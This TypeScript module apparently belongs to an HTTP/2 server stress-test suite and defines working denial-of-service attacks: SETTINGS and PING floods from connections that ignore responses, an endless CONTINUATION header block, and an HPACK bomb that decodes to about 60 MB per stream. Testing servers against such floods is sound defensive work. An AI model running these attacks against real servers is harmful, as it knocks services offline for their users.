import {
  encodeFields,
  encodeIndexedField,
  encodeReferences,
  FRAME,
  frame,
  headers,
  ping,
  SETTING,
  settings,
} from "../../support/clients/http2-frames.ts";
import { type Attack, inParallel } from "../attack.ts";
import { keepSession, type RawSession } from "../raw-session.ts";
import { requestOf } from "../requests.ts";

const CONNECTIONS = 2;

/** The same frames over and over; half of the connections do not read the server's responses. */
function flood(what: string, toFrames: () => Buffer): Attack {
  const bytes = toFrames();
  return (context) =>
    inParallel(2 * CONNECTIONS, (index) =>
      keepSession(context, { isReading: index % 2 === 0 }, async (session) => {
        while (session.isOpen() && context.isGoing()) {
          await session.write(bytes);
          context.count(what);
        }
      }),
    );
}

/** SETTINGS frames, which the server has to acknowledge. */
export const settingsFlood: Attack = flood("batches of 100 SETTINGS", () =>
  Buffer.concat(Array.from({ length: 100 }, () => settings([[SETTING.headerTableSize, 4_096]]))),
);

/** PING frames, which the server has to acknowledge. */
export const pingFlood: Attack = flood("batches of 100 PING", () => Buffer.concat(Array.from({ length: 100 }, ping)));

/** A header block that never ends: CONTINUATION frames, each empty or with one field. */
export const continuationFlood: Attack = (context) =>
  inParallel(CONNECTIONS, (index) =>
    keepSession(context, {}, async (session) => {
      const part = index === 0 ? Buffer.alloc(0) : encodeFields([["x-part", "a".repeat(100)]]);
      const id = session.nextId();
      const begin = frame(FRAME.headers, 0, id, encodeFields(requestOf("healthz").fields));
      const continuation = frame(FRAME.continuation, 0, id, part);
      const batch = Buffer.concat(Array.from({ length: 50 }, () => continuation));
      await session.write(begin);
      while (session.isOpen() && context.isGoing()) {
        await session.write(batch);
        context.count("CONTINUATION", 50);
      }
    }),
  );

/** An entry of 4,000 bytes in the dynamic table, and streams with 15,000 references to it: 60 MB each when decoded. */
export const hpackBomb: Attack = (context) => {
  const head = encodeFields(requestOf("healthz").fields);
  const first = Buffer.concat([head, encodeIndexedField(["x-bomb", "a".repeat(4_000)])]);
  const more = Buffer.concat([head, encodeReferences(15_000)]);
  const send = async (session: RawSession, block: Buffer) => {
    const id = session.nextId();
    await session.write(headers(id, block, { endStream: true }));
    await session.waitForRoom([id], 100);
    context.count("requests");
  };
  return inParallel(CONNECTIONS, () =>
    keepSession(context, {}, async (session) => {
      await send(session, first);
      while (session.isOpen() && context.isGoing()) await send(session, more);
    }),
  );
};
